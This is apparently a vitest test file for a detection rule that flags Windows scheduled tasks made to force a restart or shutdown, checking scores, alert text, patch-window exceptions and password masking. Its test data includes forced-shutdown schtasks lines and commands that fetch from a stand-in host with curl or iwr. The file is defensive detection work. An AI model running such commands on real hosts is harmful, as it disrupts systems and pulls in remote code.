import { describe, expect, test } from 'vitest';
import type { Alert } from '../../src/core/alert.ts';
import type { ProcessEvent, TelemetryEvent } from '../../src/core/event.ts';
import { DefinitionError } from '../../src/core/problem.ts';
import {
  secOpsWinScheduledTaskCreation,
  secOpsWinSchtasksRemoteSystem,
} from '../../src/t1053/index.ts';
import {
  type SchtasksForcedRebootOptions,
  secOpsWinSchtasksForcedReboot,
} from '../../src/t1053/sec-ops-win-schtasks-forced-reboot.ts';
import { content, created, outcome, process, settled } from './events.ts';
import { eventsOf, runRows } from './rows/run-rows.ts';
import { lookAlikes, positives } from './rows/win-schtasks-forced-reboot.ts';

const alert = secOpsWinSchtasksForcedReboot();

const told = (events: readonly TelemetryEvent[], options: SchtasksForcedRebootOptions = {}) =>
  settled([secOpsWinSchtasksForcedReboot(options)], events);
const create = (tr: string, more = '') => `schtasks  /create /tn x /sc once ${more} /tr "${tr}"`;
const running = (tr: string, more: Partial<ProcessEvent> = {}) => told([process(create(tr), more)]);
const scores = (alerts: readonly Alert[]) => alerts.map(({ score }) => score);
const exec = (command: string, args?: string) =>
  content({ steps: [{ type: 'exec', command, arguments: args }] });

describe('positives', () => {
  runRows(alert, positives);

  test('rows 1 to 6, 8 and 10 are baseline; 7, 9 and 11 are extended', () => {
    const tiers = positives.map(({ row }) => told(eventsOf(positives, row))[0]?.tier);
    expect(tiers.filter((tier) => tier === 'extended')).toHaveLength(3);
    expect([tiers[6], tiers[8], tiers[10]]).toEqual(['extended', 'extended', 'extended']);
  });

  test('a forced restart as the local system scores 80, and the creation is told beside it', () => {
    const commandLine =
      'schtasks  /create /ru SYSTEM /sc once /tn rhaegal_3 ' +
      '/tr "C:\\Windows\\system32\\shutdown.exe /r /t 0 /f" /st 18:13:00';
    const event = process(commandLine, {
      host: 'fs02',
      fqdn: 'fs02.corp.example',
      originalFileName: 'sctasks.exe',
      user: 'SYSTEM',
      domain: 'NT AUTHORITY',
      logonId: '0x3e7',
      parentImage: 'C:\\Windows\\System32\\cmd.exe',
    });
    const alerts = settled([alert, secOpsWinScheduledTaskCreation()], [event]);
    expect(alerts.map(({ name, tier, score }) => [name, tier, score])).toEqual([
      ['SecOpsWinSchtasksForcedReboot', 'baseline', 80],
      ['SecOpsWinScheduledTaskCreation', 'baseline', 15],
    ]);
    expect(alerts[0]?.reasons.map(({ points }) => points)).toEqual([55, 15, 10]);
  });

  test('row 8 is told by the alert on remote creation, too', () => {
    const alerts = settled([alert, secOpsWinSchtasksRemoteSystem()], eventsOf(positives, '8'));
    expect(alerts.map(({ score }) => score)).toEqual([80, 65]);
  });
});

describe('look-alikes', () => {
  runRows(alert, lookAlikes);

  test('row 8: the alert is extended and names the program of another maker', () => {
    const [found] = told(eventsOf(lookAlikes, '8'));
    const thirdParty = 'C:\\Program Files\\Example UPS\\agent\\shutdown.exe';
    expect(found).toMatchObject({
      tier: 'extended',
      severity: 'low',
      details: { powerAction: 'hibernation', forced: false, thirdParty },
    });
    expect(found?.reasons.map(({ text }) => text).join()).toContain(thirdParty);
  });
});

describe('what the alert says', () => {
  test('task, action, start, rights, parent and what will happen where', () => {
    const commandLine =
      'schtasks  /create /tn \\Corp\\night /sc once /sd 13/05/2026 /st 03:00 /ru SYSTEM ' +
      '/tr "shutdown /r /f"';
    const [found] = told([process(commandLine, { parentImage: 'C:\\Windows\\explorer.exe' })]);
    expect(found).toMatchObject({
      name: 'SecOpsWinSchtasksForcedReboot',
      severity: 'high',
      attack: {
        tactics: [{ id: 'TA0002' }, { id: 'TA0040' }],
        techniques: [{ id: 'T1053' }, { id: 'T1053.005' }, { id: 'T1529' }],
      },
      source: { host: 'ws1.corp.example', account: 'alice', domain: 'CORP' },
      details: {
        taskName: '\\Corp\\night',
        taskAction: 'shutdown /r /f',
        taskTrigger: 'once',
        taskStart: '13/05/2026 03:00',
        taskRunAs: 'SYSTEM',
        commandLine,
        parentImage: 'C:\\Windows\\explorer.exe',
        powerAction: 'restart',
        forced: true,
      },
      summary:
        'task \\Corp\\night was created on ws1 by CORP\\alice: ' +
        'forced restart of ws1, 13/05/2026 03:00',
    });
    expect(found?.destination).toBeUndefined();
    expect(found?.details).not.toHaveProperty('thirdParty');
  });

  test('/S names the destination, and so does /m without it', () => {
    const [remote] = told([process(create('shutdown /p /f /m \\\\SRV9', '/s SRV07'))]);
    expect(remote?.destination).toEqual({ host: 'srv07', account: undefined });
    expect(remote?.summary).toBe(
      'task x was created on srv07 from ws1 by CORP\\alice: forced power-off of srv9',
    );
    const [named] = running('shutdown /r /m \\\\10.0.0.9');
    expect(named?.destination).toMatchObject({ ip: '10.0.0.9' });
    expect(named?.summary).toContain('restart of 10.0.0.9');
  });

  test.each(['\\\\ws1', '\\\\localhost', '127.0.0.1', '.'])(
    '/m %s is the host itself and no destination',
    (host) => {
      expect(running(`shutdown /r /m ${host}`)[0]?.destination).toBeUndefined();
    },
  );

  test('a change of a task is told as one', () => {
    const [found] = told(eventsOf(positives, '5'));
    expect(found?.summary).toBe(
      'task \\Backup was changed on ws1 by CORP\\alice: forced restart of ws1',
    );
  });

  test.each(['Winter!26 x', 'shutdown', 'SRV9'])(
    'the password %s stands nowhere in it, and hides nothing',
    (password) => {
      const tr = 'C:\\Apps\\shutdown.exe /r /m \\\\SRV9';
      const line = create(tr, `/ru adm /rp "${password}" /s SRV07 /u adm /p "${password}"`);
      const { alerts } = outcome([alert], [process(line)]);
      expect(alerts).toHaveLength(1);
      expect(alerts[0]?.details['powerAction']).toBe('restart');
      expect(JSON.stringify(alerts)).not.toContain(password);
    },
  );
});

describe('score', () => {
  test('a start within the hour, where it is certain, is worth 15', () => {
    const at = (start: string) => {
      const definition = {
        ...exec('shutdown', '/s'),
        triggers: [{ type: 'TimeTrigger', start }],
      };
      return scores(told([created('\\x', { content: definition })]));
    };
    expect(at('2026-05-12T10:00:00Z')).toEqual([70]);
    expect(at('2026-05-12T10:00:01Z')).toEqual([55]);
    expect(at('2026-05-12T09:30:00')).toEqual([55]);
  });

  test('/ST alone is told on a clock nobody knows, and worth nothing', () => {
    expect(scores(told([process(create('shutdown /s', '/st 09:10'))]))).toEqual([55]);
  });

  test('/t 0 forces nothing, /t 1 does', () => {
    expect(scores(running('shutdown /r /t 0'))).toEqual([55]);
    expect(scores(running('shutdown /r /t 1'))).toEqual([70]);
  });

  test('rights, place, payload and parents count as for every task', () => {
    expect(scores(told([process(create('shutdown /s', '/rl highest'))]))).toEqual([65]);
    expect(scores(running('C:\\Users\\Public\\shutdown.exe /s'))).toEqual([70]);
    expect(scores(running('cmd /c curl https://h.example/x & shutdown /s'))).toEqual([75]);
    const parentImage = 'C:\\Program Files\\Office\\winword.exe';
    expect(scores(running('shutdown /s', { parentImage }))).toEqual([65]);
  });
});

describe('options', () => {
  const nightly = eventsOf(lookAlikes, '7');
  const patchWindows = [{ days: ['sun'], from: '02:00', to: '04:00' }] as const;

  test('minForced leaves out what asks programs before, and notes it', () => {
    const minForced = true;
    expect(scores(told([process(create('shutdown /r /f'))], { minForced }))).toEqual([70]);
    const { alerts, notes } = outcome(
      [secOpsWinSchtasksForcedReboot({ minForced })],
      [process(create('shutdown /r'))],
    );
    expect([alerts, notes.map(({ code }) => code)]).toEqual([[], ['alert-dropped']]);
  });

  test('an allow entry takes 30, or silences; to call a shell is no obstacle', () => {
    const allowEntries = [{ taskName: '\\Reboot*', actor: 'CORP\\deploy' }];
    const reboot = (tr: string) => [
      process(`schtasks /create /tn Reboot-1 /tr "${tr}"`, { user: 'deploy' }),
    ];
    const shell = reboot('powershell -c Restart-Computer');
    expect(told(shell, { allowEntries })).toMatchObject([
      { score: 25, allowedBy: 'taskName \\Reboot*, actor CORP\\deploy' },
    ]);
    expect(told(shell, { allowEntries, allow: 'drop' })).toEqual([]);
    const loading = reboot('powershell -c iwr https://h.example/x; Restart-Computer');
    expect(scores(told(loading, { allowEntries, allow: 'drop' }))).toEqual([75]);
  });

  test('row 7: a patch window counts like an allow entry for the programs of patching', () => {
    const [lowered] = told(nightly, { patchWindows });
    expect(lowered?.score).toBe(40);
    expect(lowered?.allowedBy).toBe(
      'patch window sun 02:00 to 04:00, by C:\\Windows\\CCM\\CcmExec.exe',
    );
    expect(told(nightly, { patchWindows, allow: 'drop' })).toEqual([]);
    const others = [{ ...patchWindows[0], hosts: ['srv*'] }];
    expect(scores(told(nightly, { patchWindows: others }))).toEqual([70]);
    const monday = [{ days: ['mon'], from: '02:00', to: '04:00' }] as const;
    expect(scores(told(nightly, { patchWindows: monday }))).toEqual([70]);
  });

  test('a program of patching may stand further up, or be named by the host', () => {
    const line = create('shutdown /r /f', '/st 03:00 /sd 17/05/2026');
    const shell = { image: 'C:\\Windows\\System32\\cmd.exe', pid: 7 };
    const parentImage = 'C:\\Windows\\CCM\\CcmExec.exe';
    const events = [
      process('cmd /c patch.cmd', { ...shell, parentImage }),
      process(line, { parentPid: 7, parentImage: shell.image, atMs: 5 }),
    ];
    expect(scores(told(events, { patchWindows }))).toEqual([40]);
    const own = [process(line, { parentImage: 'D:\\Patch\\agent.exe' })];
    expect(scores(told(own, { patchWindows }))).toEqual([70]);
    const patchParents = ['?:\\Patch\\*.exe'];
    expect(scores(told(own, { patchWindows, patchParents }))).toEqual([40]);
  });

  test('no window covers a program in a place that users can write, or a payload', () => {
    const by = (tr: string) =>
      process(create(tr, '/st 03:00 /sd 17/05/2026'), {
        parentImage: 'C:\\Windows\\CCM\\CcmExec.exe',
      });
    expect(scores(told([by('shutdown /r')], { patchWindows }))).toEqual([25]);
    expect(scores(told([by('C:\\Temp\\shutdown.exe /r')], { patchWindows }))).toEqual([70]);
    const loading = by('cmd /c curl https://h.example/x & shutdown /r');
    expect(scores(told([loading], { patchWindows }))).toEqual([75]);
  });

  test('options that cannot be are refused, each with its path', () => {
    const options = {
      patchWindows: [{ days: ['sunday'], from: '24:00', to: '04:00', utcOffsetMinutes: 841 }],
      patchParents: [''],
    } as unknown as SchtasksForcedRebootOptions;
    const message = /days: .+from: .+utcOffsetMinutes: .+patchParents\[0\]: .+\[option-invalid\]/s;
    expect(() => secOpsWinSchtasksForcedReboot(options)).toThrow(DefinitionError);
    expect(() => secOpsWinSchtasksForcedReboot(options)).toThrow(message);
  });
});

describe('vendorParity', () => {
  const rule = secOpsWinSchtasksForcedReboot({ vendorParity: true });
  const audited = (line: string, telemetry = 'security/4688') =>
    process(line, {
      telemetry,
      fields: { NewProcessName: 'C:\\Windows\\System32\\schtasks.exe', CommandLine: line },
    });
  const found = (event: ProcessEvent) => settled([rule], [event]);

  test('runs the published query on 4688: its tokens, and its mistakes', () => {
    expect(found(audited(create('shutdown /r')))).toMatchObject([{ tier: 'parity', score: 55 }]);
    expect(found(audited(create('shutdown /a')))).toHaveLength(1);
    expect(found(audited('schtasks /create /tn "Shutdown notice" /tr notify'))).toHaveLength(1);
    expect(found(audited('schtasks /create /tn x /tr ShutdownGuard.exe'))).toEqual([]);
    expect(found(audited('schtasks -create -tn x -tr "shutdown -r"'))).toEqual([]);
    expect(found(audited('schtasks /change /tn x /tr "shutdown /r"'))).toEqual([]);
    expect(found(audited(create('shutdown /r'), 'sysmon/1'))).toEqual([]);
    expect(settled([rule], [created('\\x', { content: exec('shutdown', '/r') })])).toEqual([]);
  });

  test('shows no command line, so no password', () => {
    const alerts = found(audited(create('shutdown /r', '/rp S3cret!pass')));
    expect(alerts).toHaveLength(1);
    expect(JSON.stringify(alerts)).not.toContain('S3cret');
  });
});
